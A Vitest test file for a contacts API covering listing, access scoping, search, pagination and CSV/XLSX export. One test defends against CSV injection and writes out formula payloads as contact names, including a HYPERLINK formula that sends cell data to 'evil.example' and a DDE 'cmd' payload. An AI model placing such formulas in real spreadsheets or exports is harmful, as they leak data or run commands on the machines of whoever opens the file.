import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { contacts } from '../../server/db/schema/index';
import { TypeContact } from '../../domain/contact-types';
import { Droit } from '../../domain/droits';
import { TypeOrganisation } from '../../domain/organisation-types';
import { createContact, createOrganisation } from '../support/contacts';
import { post } from '../support/dossiers';
import type { TestApp } from '../support/test-app';
import { demoApp } from '../support/demo-app';

/** Spec section 7, Contacts: POST /contacts, the list, filtered, sorted and paginated by the database, within the caller's reach. */

let t: TestApp;
let manager: string;
let information: string;
let otherOrganisation: number;

beforeAll(async () => {
  ({ t, manager, information } = await demoApp({ manager: ['demo.gestionnaire'], information: ['demo.information', Droit.Prestataire] }));
  otherOrganisation = await createOrganisation(t, 'Liste Ailleurs SRL', TypeOrganisation.PRESTATAIRE);
  await createContact(t, 'liste.ailleurs', [Droit.Prestataire], [{ organisationId: otherOrganisation, typeOrganisationId: TypeOrganisation.PRESTATAIRE, typeContactId: TypeContact.AUTORITE }]);
  // Foreigners named Zèbre, to sort and page through.
  await t.database.db.insert(contacts).values(
    Array.from({ length: 5 }, (_, i) => ({ email: `zebre.${i}@exemple.fr`, nomUtilisateur: `zebre.${i}`, prenom: `Zoé ${i}`, nom: 'Zèbre', nationalite: 'FR' })),
  );
});
afterAll(() => t.close());

const list = async (authorization: string, filter: object) => {
  const response = await post(t, authorization, '/api/contacts', filter);
  expect(response.statusCode, response.body).toBe(200);
  return response.json().result as { items: Array<{ NomUtilisateur: string; Prenom: string; organisations: string[] }>; total: number };
};
const logins = (page: { items: Array<{ NomUtilisateur: string }> }) => page.items.map((c) => c.NomUtilisateur);

describe('POST /contacts', () => {
  it("gives a contact of an organisation the organisation's contacts and itself, not another organisation's", async () => {
    const page = await list(information, { perPage: 100 });
    expect(logins(page)).toEqual(expect.arrayContaining(['demo.presta', 'demo.reference', 'demo.expert', 'demo.information']));
    expect(logins(page)).not.toContain('liste.ailleurs');
    expect(logins(page)).not.toContain('zebre.0');
    expect(page.items.find((c) => c.NomUtilisateur === 'demo.presta')!.organisations).toEqual(['Conseil & Transition SRL', 'Verrerie Wallonne SA']);
  });

  it('gives a manager every contact, searched in name, first name, e-mail and user name, case and accents as typed', async () => {
    expect(logins(await list(manager, { recherche: 'AILLEURS' }))).toEqual(['liste.ailleurs']);
    expect(logins(await list(manager, { recherche: 'zoé 3' }))).toEqual(['zebre.3']);
    expect(logins(await list(manager, { recherche: '@exemple.fr', sort: { field: 'nomUtilisateur', direction: 'desc' } }))).toEqual(['zebre.4', 'zebre.3', 'zebre.2', 'zebre.1', 'zebre.0']);
    expect((await list(manager, { recherche: '100%_' })).total).toBe(0);
  });

  it('filters Belgians (a contact without nationality counts as one) from foreigners, and by organisation', async () => {
    const foreigners = await list(manager, { origine: 'etrangers', perPage: 100 });
    expect(logins(foreigners).every((login) => login.startsWith('zebre.'))).toBe(true);
    expect(foreigners.total).toBe(5);
    expect(logins(await list(manager, { origine: 'belges', perPage: 100 }))).toContain('demo.benef');
    expect(logins(await list(manager, { organisationId: otherOrganisation }))).toEqual(['liste.ailleurs']);
  });

  it('pages with the total', async () => {
    const second = await list(manager, { origine: 'etrangers', sort: { field: 'prenom', direction: 'asc' }, page: 2, perPage: 2 });
    expect(second).toMatchObject({ total: 5, page: 2, perPage: 2 });
    expect(logins(second)).toEqual(['zebre.2', 'zebre.3']);
  });

  it('refuses a malformed filter on its field', async () => {
    const response = await post(t, manager, '/api/contacts', { perPage: 1000 });
    expect(response.statusCode).toBe(400);
    expect(response.json().fields).toEqual([expect.objectContaining({ field: 'perPage' })]);
  });
});

describe('POST /contacts/export', () => {
  const exported = async (authorization: string, filter: object) => {
    const response = await post(t, authorization, '/api/contacts/export', filter);
    expect(response.statusCode, response.body).toBe(200);
    return parse(response.rawPayload.toString('utf8').slice(1), { delimiter: ';' }) as string[][];
  };

  it("holds the contacts of the caller's list the filters select, every page, with their organisations", async () => {
    const [header, ...rows] = await exported(information, {});
    expect(header).toEqual(['Nom', 'Prénom', 'E-mail', "Nom d'utilisateur", 'Nationalité', 'Organisations', 'Créé le']);
    expect(rows.map((r) => r[3]).sort()).toEqual(logins(await list(information, { perPage: 100 })).sort());
    expect(rows.find((r) => r[3] === 'demo.presta')![5]).toBe('Conseil & Transition SRL ; Verrerie Wallonne SA');
    const foreigners = (await exported(manager, { origine: 'etrangers', recherche: 'zèbre' })).slice(1);
    expect(foreigners.map((r) => r[3]).sort()).toEqual(['zebre.0', 'zebre.1', 'zebre.2', 'zebre.3', 'zebre.4']);
    expect(new Set(foreigners.map((r) => r[4]))).toEqual(new Set(['France']));
  });

  it('writes a name a spreadsheet would run as a formula as text (OWASP CSV injection), in every text column', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    await t.database.db.insert(contacts).values(
      formulas.map((nom, i) => ({ email: `formule.${i}@exemple.fr`, nomUtilisateur: `=formule.${i}`, prenom: 'Formule', nom, nationalite: 'FR' })),
    );
    const rows = (await exported(manager, { recherche: 'formule' })).slice(1);
    expect(rows.map((r) => r[0]).sort()).toEqual(formulas.map((nom) => `'${nom}`).sort());
    expect(rows.map((r) => r[3]).sort()).toEqual(formulas.map((_, i) => `'=formule.${i}`).sort());
    expect(rows.every((r) => r[1] === 'Formule')).toBe(true);
  });

  it('gives the same rows as XLSX, and refuses what the list refuses', async () => {
    const response = await post(t, manager, '/api/contacts/export', { recherche: 'zèbre', format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    expect(workbook.getWorksheet('Contacts')!.rowCount).toBe(6);
    expect((await post(t, manager, '/api/contacts/export', { sort: { field: 'nom', direction: 'asc' } })).statusCode).toBe(400);
    expect((await post(t, manager, '/api/contacts/export', { format: 'txt' })).statusCode).toBe(400);
  });
});
